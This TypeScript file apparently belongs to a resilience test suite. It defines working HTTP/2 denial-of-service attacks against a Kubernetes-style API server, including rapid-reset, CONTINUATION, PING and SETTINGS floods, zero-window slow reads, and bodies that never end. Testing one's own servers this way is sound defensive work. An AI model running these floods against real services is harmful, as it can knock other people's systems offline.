import { type Attack, crowd, pour } from "./crowd.ts";
import { fields, flags, frame, frameTypes, preface, settings, uint32 } from "./http2-frames.ts";

const big = "/api/v1/namespaces/big/configmaps";
const whole = flags.endStream | flags.endHeaders;
/** Windows as wide as they may be: what comes is never read, so that only the server's own limits hold. */
const begin = Buffer.concat([
  preface,
  settings([[4, 0x7fffffff]]),
  frame(frameTypes.window, { payload: uint32(0x7fffffff - 65_535) }),
]);
const narrow = Buffer.concat([preface, settings([[4, 0]])]);

function ask(token: string, stream: number, path: string, method = "GET", set: number = whole) {
  const payload = fields([
    [":method", method],
    [":scheme", "https"],
    [":path", path],
    [":authority", "localhost"],
    ["authorization", `Bearer ${token}`],
    ["content-type", "application/json"],
  ]);
  return frame(frameTypes.headers, { stream, flags: set, payload });
}

/** Crowds that speak HTTP/2. */
export const http2Crowds: Attack[] = [
  unread("20 times 100 lists that nobody reads", begin, big),
  unread("20 times 100 lists with windows of nothing", narrow, big),
  unread("20 times 100 watches that nobody reads", begin, `${big}?watch=1&resourceVersion=0`),
  unread("20 times 100 gets of a megabyte with windows of nothing", narrow, `${big}/mega`),
  flood("10 times 20,000 requests taken back", 20_000, (token, count) => {
    const stream = 2 * count + 1;
    const taken = frame(frameTypes.reset, { stream, payload: uint32(8) });
    return [ask(token, stream, big), taken];
  }),
  flood("10 times 20,000 watches taken back", 20_000, (token, count) => {
    const stream = 2 * count + 1;
    const taken = frame(frameTypes.reset, { stream, payload: uint32(8) });
    return [ask(token, stream, `${big}?watch=1`), taken];
  }),
  flood("10 times 100,000 pings", 100_000, () => [
    frame(frameTypes.ping, { payload: Buffer.alloc(8) }),
  ]),
  flood("10 times 100,000 settings", 100_000, () => [settings([[1, 4096]])]),
  flood("10 times 100,000 changes of a window", 100_000, () => [settings([[4, 65_535]])]),
  flood("10 times 100,000 empty pieces of a body", 100_000, (token, count) =>
    count === 0
      ? [ask(token, 1, "/api/v1/namespaces/default/configmaps", "POST", flags.endHeaders)]
      : [frame(frameTypes.data, { stream: 1 })],
  ),
  flood("10 times 10,000 continuations", 10_000, (token, count) =>
    count === 0
      ? [ask(token, 1, "/version", "GET", flags.endStream)]
      : [frame(frameTypes.continuation, { stream: 1, payload: fields([[`x-${count}`, "y"]]) })],
  ),
  flood("10 times 20,000 requests of an even number", 20_000, (token, count) => [
    ask(token, 2 * count + 2, "/version"),
  ]),
  {
    name: "10 times 100 bodies that never end over HTTP/2",
    run: (on) =>
      crowd(on, {
        ...{ count: 10, over: "h2" },
        use(socket) {
          socket.resume();
          socket.write(begin);
          const path = "/api/v1/namespaces/default/configmaps";
          for (let stream = 1; stream < 200; stream += 2) {
            socket.write(ask(on.server.token, stream, path, "POST", flags.endHeaders));
          }
          let left = 100 * 40;
          const payload = Buffer.alloc(16_000, 32);
          pour(socket, () =>
            left-- > 0
              ? frame(frameTypes.data, { stream: 1 + 2 * (left % 100), payload })
              : undefined,
          );
        },
      }),
  },
];

function unread(name: string, first: Buffer, path: string): Attack {
  return {
    name: `${name} over HTTP/2`,
    run: (on) =>
      crowd(on, {
        ...{ count: 20, over: "h2" },
        use(socket) {
          socket.pause();
          socket.write(first);
          for (let stream = 1; stream < 200; stream += 2) {
            socket.write(ask(on.server.token, stream, path));
          }
        },
      }),
  };
}

function flood(
  name: string,
  count: number,
  make: (token: string, count: number) => Uint8Array[],
): Attack {
  return {
    name,
    run: (on) =>
      crowd(on, {
        ...{ count: 10, over: "h2" },
        use(socket) {
          socket.resume();
          socket.write(begin);
          let done = 0;
          // A few hundred a time, as an attacker would.
          pour(socket, () => {
            if (done >= count * on.scale) return undefined;
            const frames: Uint8Array[] = [];
            for (let each = 0; each < 200; each += 1) {
              frames.push(...make(on.server.token, done));
              done += 1;
            }
            return Buffer.concat(frames);
          });
        },
      }),
  };
}
